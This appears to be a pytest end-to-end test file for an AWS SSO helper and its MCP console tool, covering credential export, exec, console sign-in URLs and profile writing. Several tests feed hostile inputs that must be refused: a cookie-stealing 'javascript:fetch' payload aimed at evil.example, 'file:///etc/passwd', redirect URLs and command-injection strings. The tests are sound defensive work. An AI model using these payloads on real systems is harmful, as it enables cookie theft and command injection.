"""End to end: one SSO session handed to every other tool, through the session verbs
(`credential-process`, `export-credentials`, `exec`, `console`, `profiles`) and the `console`
plugin's MCP tool, as their real consumers use them.

The world: the SSO emulator plays IAM Identity Center (and the sign-in federation endpoint, at
`AWS_ENDPOINT_URL_SIGNIN`), moto plays STS with the role credentials the emulator minted there, so
`GetCallerIdentity` names the account that was asked for. The consumers are botocore in a fresh
Python process, the AWS CLI v1 from the venv, `sh`, and a real MCP client over stdio.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import anyio
import pytest

from host_harness import HOST_BINARY, START_URL, VENV_BIN, HostSetup, text_of
from sso_helpers import login

ACCOUNT = "111111111111"
ROLE = "ReadOnly"
ROLE_ARGS = ("--account-id", ACCOUNT, "--role-name", ROLE)
LOGIN_HINT = "run `mcp-aws-sso login`"

# botocore in a fresh process: the caller identity of a profile (or of the environment's
# credentials, with no profile), as JSON on stdout.
CALLER_IDENTITY = textwrap.dedent("""
    import json, os, sys
    import botocore.session
    profile = sys.argv[1] if len(sys.argv) > 1 else None
    session = botocore.session.Session(profile=profile)
    sts = session.create_client("sts", region_name="us-east-1", endpoint_url=os.environ["STS_URL"])
    print(json.dumps(sts.get_caller_identity()))
""")


# --------------------------------------------------------------------------- fixtures


@pytest.fixture
def user(host: HostSetup, sso, moto_server) -> HostSetup:
    """A signed-in user whose role credentials are minted in moto, and whose sign-in federation
    endpoint is the emulator's."""
    sso.configure(moto_url=moto_server, approve_after_polls=0)
    host.moto_url = moto_server
    host.extra_env["AWS_ENDPOINT_URL_SIGNIN"] = sso.url
    login(host)
    return host


def write_aws_config(host: HostSetup, text: str) -> Path:
    path = host.home / ".aws" / "config"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def caller_identity(host: HostSetup, profile: str | None = None, env: dict | None = None,
                    command: list[str] | None = None) -> dict:
    """GetCallerIdentity from botocore in a fresh process (optionally through `command`)."""
    argv = [sys.executable, "-c", CALLER_IDENTITY] + ([profile] if profile else [])
    result = subprocess.run((command or []) + argv, env={**host.env(STS_URL=host.moto_url), **(env or {})},
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def role_credential_calls(sso) -> int:
    return sso.state()["calls"].get("GetRoleCredentials", 0)


def no_redirect_get(url: str):
    """GET without following redirects: returns (status, Location)."""
    class Keep(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None
    try:
        with urllib.request.build_opener(Keep).open(url, timeout=10) as response:
            return response.status, response.headers.get("Location")
    except urllib.error.HTTPError as error:
        return error.code, error.headers.get("Location")


# --------------------------------------------------------------------------- credential-process


def test_credential_process_serves_botocore_and_the_aws_cli_from_one_cached_role(user, sso):
    binary = str(HOST_BINARY)
    write_aws_config(user, f"[profile via-mcp]\ncredential_process = {binary} credential-process "
                           f"--account-id {ACCOUNT} --role-name {ROLE}\nregion = us-east-1\n")
    identity = caller_identity(user, "via-mcp")
    assert identity["Account"] == ACCOUNT
    assert f":assumed-role/{ROLE}/" in identity["Arn"]

    # The AWS CLI v1 from the venv, with the same profile and its own STS endpoint override.
    cli = subprocess.run([str(VENV_BIN / "aws"), "sts", "get-caller-identity", "--profile", "via-mcp",
                          "--output", "json"], env=user.env(), capture_output=True, text=True, timeout=60)
    assert cli.returncode == 0, cli.stderr
    assert json.loads(cli.stdout)["Account"] == ACCOUNT

    # ... also when the profile comes from AWS_PROFILE, which the CLI passes on to our process.
    cli = subprocess.run([str(VENV_BIN / "aws"), "sts", "get-caller-identity", "--output", "json"],
                         env=user.env(AWS_PROFILE="via-mcp"), capture_output=True, text=True, timeout=60)
    assert cli.returncode == 0, cli.stderr
    assert json.loads(cli.stdout)["Account"] == ACCOUNT

    # Stdout is the credential_process JSON and nothing else; 50 calls, one GetRoleCredentials.
    for _ in range(50):
        result = user.cli("credential-process", *ROLE_ARGS)
        assert result.returncode == 0, result.stderr
        payload = json.loads(result.stdout)
        assert set(payload) == {"Version", "AccessKeyId", "SecretAccessKey", "SessionToken", "Expiration"}
        assert payload["Version"] == 1
        assert payload["Expiration"].endswith("Z")
    assert role_credential_calls(sso) == 1


def test_credential_process_stops_at_once_after_a_logout_elsewhere(user, sso):
    assert user.cli("credential-process", *ROLE_ARGS).returncode == 0
    # Another process signs out; the role credentials cached on disk must not outlive the session.
    assert user.cli("logout").returncode == 0
    result = user.cli("credential-process", *ROLE_ARGS)
    assert result.returncode == 1 and result.stdout == ""
    assert LOGIN_HINT in result.stderr
    # A login again serves fresh credentials.
    login(user)
    assert user.cli("credential-process", *ROLE_ARGS).returncode == 0


def test_credential_process_refuses_malformed_roles_before_any_call(user, sso):
    before = role_credential_calls(sso)
    for bad in (("--account-id", "12345", "--role-name", ROLE),
                ("--account-id", ACCOUNT, "--role-name", "Read Only"),
                ("--account-id", ACCOUNT, "--role-name", ROLE, "--region", "us-east-1;id")):
        result = user.cli("credential-process", *bad)
        assert result.returncode == 2, result
        assert result.stdout == ""
    assert role_credential_calls(sso) == before


# --------------------------------------------------------------------------- export-credentials


def test_export_credentials_env_evaluated_by_sh_gives_a_working_environment(user):
    script = (f'eval "$("$MCP_AWS_SSO" export-credentials --account-id {ACCOUNT} --role-name {ROLE} '
              f'--format env --region eu-west-1)" && exec "$PYTHON" -c "$SCRIPT"')
    result = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=60,
                            env=user.env(MCP_AWS_SSO=str(HOST_BINARY), PYTHON=sys.executable,
                                         SCRIPT=CALLER_IDENTITY + "\nprint(os.environ['AWS_REGION'])",
                                         STS_URL=user.moto_url))
    assert result.returncode == 0, result.stderr
    identity_line, region = result.stdout.strip().splitlines()
    assert json.loads(identity_line)["Account"] == ACCOUNT
    assert region == "eu-west-1"


def test_export_credentials_formats(user):
    lines = {}
    for fmt in ("env", "env-no-export", "powershell", "windows-cmd"):
        result = user.cli("export-credentials", *ROLE_ARGS, "--format", fmt)
        assert result.returncode == 0, result.stderr
        lines[fmt] = result.stdout.splitlines()
    assert [line.split("=")[0] for line in lines["env"]] == [
        "export AWS_ACCESS_KEY_ID", "export AWS_SECRET_ACCESS_KEY", "export AWS_SESSION_TOKEN",
        "export AWS_CREDENTIAL_EXPIRATION"]
    assert lines["env-no-export"][0].startswith("AWS_ACCESS_KEY_ID=ASIA")
    assert lines["powershell"][0].startswith('$Env:AWS_ACCESS_KEY_ID="') and lines["powershell"][0].endswith('"')
    assert lines["windows-cmd"][0].startswith("set AWS_ACCESS_KEY_ID=")
    process = json.loads(user.cli("export-credentials", *ROLE_ARGS).stdout)
    assert process["Version"] == 1
    as_json = json.loads(user.cli("export-credentials", *ROLE_ARGS, "--format", "json").stdout)
    assert as_json["accountId"] == ACCOUNT and as_json["roleName"] == ROLE
    assert as_json["accessKeyId"] == process["AccessKeyId"]


# --------------------------------------------------------------------------- exec


def test_exec_runs_the_program_with_only_the_roles_credentials(user, tmp_path):
    program = textwrap.dedent("""
        import json, os, sys
        names = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_SECURITY_TOKEN",
                 "AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_REGION", "AWS_DEFAULT_REGION", "AWS_CREDENTIAL_EXPIRATION"]
        print(json.dumps({name: os.environ.get(name) for name in names}))
        print("stdin:", sys.stdin.read().strip())
        print("to stderr", file=sys.stderr)
        sys.exit(7)
    """)
    parent = {"AWS_ACCESS_KEY_ID": "AKIAPARENTPARENT", "AWS_SECRET_ACCESS_KEY": "parent-secret",
              "AWS_SESSION_TOKEN": "parent-token", "AWS_SECURITY_TOKEN": "parent-legacy",
              "AWS_PROFILE": "someone-else", "AWS_DEFAULT_PROFILE": "someone-else"}
    result = user.cli("exec", *ROLE_ARGS, "--region", "eu-west-2", "--", sys.executable, "-c", program,
                      input="hello from stdin\n", **parent)
    assert result.returncode == 7, result.stderr
    env_line, stdin_line = result.stdout.strip().splitlines()
    seen = json.loads(env_line)
    assert seen["AWS_ACCESS_KEY_ID"].startswith("ASIA") and seen["AWS_ACCESS_KEY_ID"] != parent["AWS_ACCESS_KEY_ID"]
    assert seen["AWS_SESSION_TOKEN"] not in (None, "parent-token")
    assert seen["AWS_SECURITY_TOKEN"] is None and seen["AWS_PROFILE"] is None and seen["AWS_DEFAULT_PROFILE"] is None
    assert seen["AWS_REGION"] == seen["AWS_DEFAULT_REGION"] == "eu-west-2"
    assert seen["AWS_CREDENTIAL_EXPIRATION"].endswith("Z")
    assert stdin_line == "stdin: hello from stdin"
    assert "to stderr" in result.stderr

    # A real SDK in the program is the role, whatever the parent environment held.
    identity = caller_identity(user, env=parent, command=[str(HOST_BINARY), "exec", *ROLE_ARGS, "--"])
    assert identity["Account"] == ACCOUNT


def test_exec_uses_no_shell_and_reports_a_death_by_signal(user, tmp_path):
    marker = tmp_path / "shell-ran"
    # With a shell, `;` would run `touch`; without one it is just an argument of echo.
    result = user.cli("exec", *ROLE_ARGS, "--", "echo", f"a; touch {marker}", "$(touch x)")
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"a; touch {marker} $(touch x)\n"
    assert not marker.exists()
    killed = user.cli("exec", *ROLE_ARGS, "--", sys.executable, "-c",
                      "import os, signal; os.kill(os.getpid(), signal.SIGKILL)")
    assert killed.returncode == 128 + signal.SIGKILL
    missing = user.cli("exec", *ROLE_ARGS, "--", "no-such-program-anywhere")
    assert missing.returncode == 127 and "no-such-program-anywhere" in missing.stderr


def test_exec_forwards_signals_to_the_program(user, tmp_path):
    received = tmp_path / "received"
    program = textwrap.dedent(f"""
        import signal, sys, time
        got = []
        def note(number, frame):
            got.append(signal.Signals(number).name)
            open({str(received)!r}, "w").write(",".join(got))
            if len(got) == 3:
                sys.exit(40)
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(s, note)
        print("ready", flush=True)
        while True:
            time.sleep(0.05)
    """)
    child = subprocess.Popen([str(HOST_BINARY), "exec", *ROLE_ARGS, "--", sys.executable, "-c", program],
                             env=user.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             stdin=subprocess.DEVNULL)
    try:
        assert child.stdout.readline().strip() == "ready"
        # Sent to mcp-aws-sso alone (not its process group): only forwarding reaches the program.
        for number, name in ((signal.SIGTERM, "SIGTERM"), (signal.SIGINT, "SIGINT"), (signal.SIGHUP, "SIGHUP")):
            child.send_signal(number)
            deadline = time.monotonic() + 20
            while name not in (received.read_text() if received.exists() else ""):
                assert time.monotonic() < deadline, f"{name} never reached the program"
                time.sleep(0.05)
        assert child.wait(20) == 40
    finally:
        child.kill()
        child.wait()
    assert received.read_text() == "SIGTERM,SIGINT,SIGHUP"


# --------------------------------------------------------------------------- console


def login_url_parts(url: str) -> dict[str, str]:
    parts = urlsplit(url)
    return {key: values[0] for key, values in parse_qs(parts.query).items()} | {"_base": f"{parts.scheme}://{parts.netloc}{parts.path}"}


def test_console_print_gives_a_login_url_that_signs_in_as_the_role(user, sso):
    result = user.cli("console", *ROLE_ARGS, "--destination", "ec2", "--region", "eu-west-1", "--print")
    assert result.returncode == 0, result.stderr
    url = result.stdout.strip()
    assert "\n" not in url
    params = login_url_parts(url)
    assert params["_base"] == f"{sso.url}/federation"
    assert params["Action"] == "login"
    assert params["Destination"] == "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1"
    assert params["Issuer"] == START_URL
    token = params["SigninToken"]
    assert len(token) > 40
    assert token not in result.stderr
    assert "EC2 in eu-west-1" in result.stderr

    # The URL works once, as a browser would use it, and signs in as the account and role asked for.
    assert no_redirect_get(url) == (302, params["Destination"])
    assert sso.state()["federation"]["logins"] == [
        {"accountId": ACCOUNT, "roleName": ROLE, "destination": params["Destination"], "issuer": START_URL}]
    assert no_redirect_get(url)[0] == 400


def test_console_expands_service_names_and_refuses_foreign_destinations(user, sso):
    s3 = login_url_parts(user.cli("console", *ROLE_ARGS, "--destination", "s3", "--region", "us-east-1",
                                  "--print").stdout.strip())
    assert s3["Destination"] == "https://console.aws.amazon.com/s3/home?region=us-east-1"
    home = login_url_parts(user.cli("console", *ROLE_ARGS, "--print").stdout.strip())
    assert home["Destination"] == "https://console.aws.amazon.com/console/home?region=us-east-1"
    issued = sso.state()["federation"]["signinTokens"]
    for hostile in ("https://evil.example/", "https://console.aws.amazon.com.evil.example/x",
                    "http://console.aws.amazon.com/", "javascript:alert(1)",
                    "https://console.aws.amazon.com@evil.example/"):
        result = user.cli("console", *ROLE_ARGS, "--destination", hostile, "--print")
        assert result.returncode == 1, result
        assert result.stdout == ""
        assert "the destination must be" in result.stderr
    # Refused before the federation call: no sign-in token was minted for them.
    assert sso.state()["federation"]["signinTokens"] == issued


def recording_browser(tmp_path: Path) -> tuple[str, Path]:
    """A BROWSER that records the URL it was given, as a person's browser would receive it."""
    opened = tmp_path / "opened-urls"
    script = tmp_path / "record-browser.sh"
    script.write_text(f'#!/bin/sh\nprintf "%s\\n" "$1" >> "{opened}"\n')
    script.chmod(0o755)
    return str(script), opened


def test_console_cli_opens_the_browser(user, sso, tmp_path):
    browser, opened = recording_browser(tmp_path)
    result = user.cli("console", *ROLE_ARGS, "--destination", "cloudwatch", "--region", "eu-west-1",
                      BROWSER=browser)
    assert result.returncode == 0, result.stderr
    assert "Opened the AWS console for 111111111111 / ReadOnly, CloudWatch in eu-west-1" in result.stdout
    url = opened.read_text().strip()
    assert login_url_parts(url)["SigninToken"] not in result.stdout + result.stderr


def test_mcp_console_tool_opens_through_browser_and_never_shows_the_token(user, sso, tmp_path):
    browser, opened = recording_browser(tmp_path)
    server_log = tmp_path / "server.log"

    async def scenario():
        with open(server_log, "w") as log:
            async with user.mcp(errlog=log, BROWSER=browser, DEBUG="true") as session:
                tools = {tool.name: tool for tool in (await session.list_tools()).tools}
                console = tools["aws_sso_console"]
                assert console.annotations.read_only_hint is True
                assert console.annotations.destructive_hint is False
                good = await session.call_tool("aws_sso_console", {
                    "accountId": ACCOUNT, "roleName": ROLE, "destination": "ec2", "region": "eu-west-1"})
                hostile = []
                for destination in ("https://evil.example/", "https://console.aws.amazon.com.evil.example/",
                                    "https://evil.example/?to=https://console.aws.amazon.com/",
                                    "javascript:fetch('https://evil.example/'+document.cookie)",
                                    "https://user:pass@console.aws.amazon.com/", "//evil.example/",
                                    "file:///etc/passwd"):
                    hostile.append(await session.call_tool("aws_sso_console", {
                        "accountId": ACCOUNT, "roleName": ROLE, "destination": destination}))
                return good, hostile

    good, hostile = anyio.run(scenario)
    text = text_of(good)
    assert not good.is_error, text
    assert "AWS console for 111111111111 / ReadOnly, EC2 in eu-west-1, session valid until" in text
    structured = good.structured_content
    assert structured["accountId"] == ACCOUNT and structured["page"] == "EC2"
    assert structured["destination"] == "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1"

    urls = opened.read_text().splitlines()
    assert len(urls) == 1, "only the allowed destination opened a browser"
    token = login_url_parts(urls[0])["SigninToken"]
    shown = text + json.dumps(structured) + json.dumps([good.model_dump(mode="json")])
    for secret in (token, urls[0], "SigninToken", "sessionKey"):
        assert secret not in shown
    assert token not in server_log.read_text()
    for result in hostile:
        assert result.is_error
        assert "the destination must be" in text_of(result)
    # The opened URL signs the browser in as the role, on the page the tool reported.
    assert no_redirect_get(urls[0]) == (302, structured["destination"])
    assert sso.state()["federation"]["signinTokens"] == 1


# --------------------------------------------------------------------------- profiles


USER_CONFIG = """# my own settings, untouched by mcp-aws-sso
[default]
region = us-west-2 ; trailing comment

[profile handmade]
credential_process = /bin/false
  nested = kept
"""


def test_profiles_write_is_idempotent_keeps_the_file_and_serves_botocore(host, sso, moto_server):
    # A named sso-session, so the AWS CLI and botocore find the token under the same name.
    host.configure(AWS_SSO_SESSION="sandbox", MCP_AWS_SSO_ACCOUNTS_CACHE_TTL="0")
    sso.configure(moto_url=moto_server, approve_after_polls=0)
    host.moto_url = moto_server
    login(host)
    config = write_aws_config(host, USER_CONFIG)

    listed = host.cli("profiles")
    assert listed.returncode == 0, listed.stderr
    assert "sandbox-001.ReadOnly" in listed.stdout and "--write" in listed.stdout
    assert config.read_text() == USER_CONFIG

    first = host.cli("profiles", "--write", "--json")
    assert first.returncode == 0, first.stderr
    report = json.loads(first.stdout)
    assert report["written"] is True and len(report["added"]) == 6 and report["ssoSessionInBlock"] is True
    text = config.read_text()
    assert text.startswith(USER_CONFIG)
    assert "[sso-session sandbox]\nsso_start_url = " + START_URL in text
    assert "[profile sandbox-001.ReadOnly]\nsso_session = sandbox\nsso_account_id = 111111111111\nsso_role_name = ReadOnly\n" in text
    stat = config.stat()

    second = host.cli("profiles", "--write")
    assert second.returncode == 0, second.stderr
    assert "up to date" in second.stdout
    assert config.read_text() == text
    assert config.stat().st_mtime_ns == stat.st_mtime_ns

    # botocore resolves a generated profile natively: sso-session token -> role credentials -> STS.
    identity = caller_identity(host, "sandbox-002.PowerUser")
    assert identity["Account"] == "222222222222"
    assert ":assumed-role/PowerUser/" in identity["Arn"]

    # An account that disappears keeps its profiles until --prune.
    sso.configure(accounts=2)
    kept = json.loads(host.cli("profiles", "--write", "--json").stdout)
    assert sorted(kept["kept"]) == ["sandbox-003.PowerUser", "sandbox-003.ReadOnly"]
    assert "[profile sandbox-003.ReadOnly]" in config.read_text()
    pruned = json.loads(host.cli("profiles", "--write", "--prune", "--json").stdout)
    assert sorted(pruned["removed"]) == ["sandbox-003.PowerUser", "sandbox-003.ReadOnly"]
    assert "sandbox-003" not in config.read_text()
    assert config.read_text().startswith(USER_CONFIG)


def test_profiles_template_prefix_and_sanitised_names(host, sso):
    host.configure(AWS_SSO_SESSION="sandbox")
    login(host)
    write_aws_config(host, "")
    result = host.cli("profiles", "--json", "--prefix", "x y/", "--template", "{account_id} [{role_name}]")
    assert result.returncode == 0, result.stderr
    names = [p["profile"] for p in json.loads(result.stdout)["profiles"]]
    assert "x-y-111111111111-ReadOnly" in names
    assert all(all(c.isalnum() or c in "._-" for c in name) for name in names)
    bad = host.cli("profiles", "--template", "{accountName}")
    assert bad.returncode == 2 and "unknown placeholder" in bad.stderr


# --------------------------------------------------------------------------- not logged in


def test_every_verb_fails_fast_with_one_line_when_not_logged_in(host, sso, tmp_path):
    marker = tmp_path / "program-ran"
    runs = [
        ("credential-process", *ROLE_ARGS),
        ("export-credentials", *ROLE_ARGS, "--format", "env"),
        ("exec", *ROLE_ARGS, "--", "touch", str(marker)),
        ("console", *ROLE_ARGS, "--print"),
        ("console", *ROLE_ARGS),
        ("profiles",),
        ("profiles", "--write"),
    ]
    for argv in runs:
        result = host.cli(*argv, AWS_ENDPOINT_URL_SIGNIN=sso.url)
        assert result.returncode == 1, (argv, result)
        assert result.stdout == ""
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and LOGIN_HINT in lines[0], (argv, result.stderr)
    assert not marker.exists()
    assert not (host.home / ".aws" / "config").exists()
    # Fast: not one call reached AWS.
    assert sum(sso.state()["calls"].values()) == 0


def test_an_unconfigured_user_is_told_to_configure_then_log_in(host):
    result = host.cli("credential-process", *ROLE_ARGS)
    assert result.returncode == 1
    assert "AWS_SSO_START_URL" in result.stderr and LOGIN_HINT in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_exec_does_not_double_a_ctrl_c_from_the_terminal(user, tmp_path):
    """Ctrl-C on a terminal reaches the whole foreground process group, the program included; a
    forwarded copy on top would be a second Ctrl-C, which many programs take as "quit now"."""
    import pty

    counted = tmp_path / "sigints"
    # Every delivery of a signal writes one byte to the wakeup pipe, even when Python would run
    # its handler only once for two deliveries close together.
    program = textwrap.dedent(f"""
        import os, signal, sys, time
        read_end, write_end = os.pipe()
        os.set_blocking(write_end, False)
        os.set_blocking(read_end, False)
        signal.set_wakeup_fd(write_end)
        signal.signal(signal.SIGINT, lambda number, frame: None)
        print("ready", flush=True)
        deliveries = b""
        deadline = None
        while deadline is None or time.monotonic() < deadline:
            time.sleep(0.02)
            try:
                deliveries += os.read(read_end, 64)
            except BlockingIOError:
                pass
            if deliveries and deadline is None:
                deadline = time.monotonic() + 1.0  # room for a duplicate to arrive
        open({str(counted)!r}, "w").write(str(len(deliveries)))
        sys.exit(0)
    """)
    argv = [str(HOST_BINARY), "exec", *ROLE_ARGS, "--", sys.executable, "-c", program]
    pid, terminal = pty.fork()
    if pid == 0:  # the child: a session of its own, with the pty as controlling terminal
        os.execve(argv[0], argv, user.env())
    try:
        seen = b""
        while b"ready" not in seen:
            seen += os.read(terminal, 1024)
        os.write(terminal, b"\x03")  # what pressing Ctrl-C sends
        _, status = os.waitpid(pid, 0)
    finally:
        os.close(terminal)
    assert os.waitstatus_to_exitcode(status) == 0
    assert counted.read_text() == "1"


def test_a_failing_browser_does_not_leak_the_url_into_the_error(user, sso):
    """With BROWSER=%s the sign-in URL itself becomes the command to run; its failure message
    must still not carry the URL back to the model."""
    async def scenario():
        async with user.mcp(BROWSER="%s") as session:
            return await session.call_tool("aws_sso_console", {"accountId": ACCOUNT, "roleName": ROLE})

    result = anyio.run(scenario)
    assert result.is_error
    shown = text_of(result) + json.dumps(result.model_dump(mode="json"))
    assert "no browser could be opened" in shown
    for leak in ("SigninToken", "Action=login", "federation?"):
        assert leak not in shown
    assert sso.state()["federation"]["signinTokens"] == 1
